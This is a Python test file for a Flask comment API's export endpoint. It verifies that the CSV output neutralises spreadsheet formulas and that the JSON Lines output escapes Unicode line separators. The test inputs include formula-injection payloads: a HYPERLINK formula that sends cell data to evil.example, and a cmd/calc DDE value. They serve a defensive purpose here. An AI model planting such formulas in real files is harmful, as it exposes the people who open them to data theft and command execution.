"""Exports are safe to open: no spreadsheet formulas in the CSV, one line per record in JSON Lines."""

from __future__ import annotations

import csv
import io
import json

import pytest
from flask import Flask
from flask.testing import FlaskClient


def auth(app: Flask, role: str) -> dict[str, str]:
    pairs = dict(item.split(":", 1) for item in str(app.config["API_KEYS"]).split(","))
    return {"Authorization": f"Bearer {pairs[role]}"}


def submit(client: FlaskClient, app: Flask, text: str, **fields: object) -> None:
    response = client.post("/v1/comments", json={"text": text, **fields}, headers=auth(app, "submit"))
    assert response.status_code == 200, response.get_json()


def export(client: FlaskClient, app: Flask, form: str) -> str:
    response = client.get("/v1/decisions/export", query_string={"format": form}, headers=auth(app, "moderate"))
    assert response.status_code == 200, response.get_json()
    return response.get_data(as_text=True)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_would_run_as_formulas_are_prefixed(app: Flask, client: FlaskClient, start: str) -> None:
    text = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    # Names and titles refuse control characters at the API, so tab and CR can only start the text.
    lead = start if start.isprintable() else "="
    submit(client, app, text, author={"id": "a1", "name": f"{lead}SUM(1+1)"}, article={"id": "a", "title": f"{lead}cmd|' /C calc'!A0"})
    [row] = list(csv.DictReader(io.StringIO(export(client, app, "csv"), newline="")))
    assert row["text"] == "'" + text
    assert row["author_name"] == f"'{lead}SUM(1+1)"
    assert row["article_title"] == f"'{lead}cmd|' /C calc'!A0"
    assert row["author_id"] == "a1"  # ordinary cells untouched


def test_csv_leaves_ordinary_text_and_inner_signs_alone(app: Flask, client: FlaskClient) -> None:
    submit(client, app, "Two + two = four, says @editor - fine", author={"name": "O'Brien"})
    [row] = list(csv.DictReader(io.StringIO(export(client, app, "csv"), newline="")))
    assert row["text"] == "Two + two = four, says @editor - fine"
    assert row["author_name"] == "O'Brien"
    assert row["review_count"] == "0"


def test_jsonl_escapes_unicode_line_separators(app: Flask, client: FlaskClient) -> None:
    texts = ["first\u2028line", "second\u2029paragraph", "plain café"]
    for text in texts:
        submit(client, app, text, author={"name": "Zoë\u2028"})
    body = export(client, app, "jsonl")
    assert "\u2028" not in body and "\u2029" not in body
    assert "\\u2028" in body and "\\u2029" in body
    assert "café" in body  # other characters stay readable, not \\u-escaped
    lines = body.splitlines()
    assert len(lines) == len(texts)
    records = [json.loads(line) for line in lines]
    assert sorted(record["text"] for record in records) == sorted(texts)
    assert {record["author"]["name"] for record in records} == {"Zoë\u2028"}
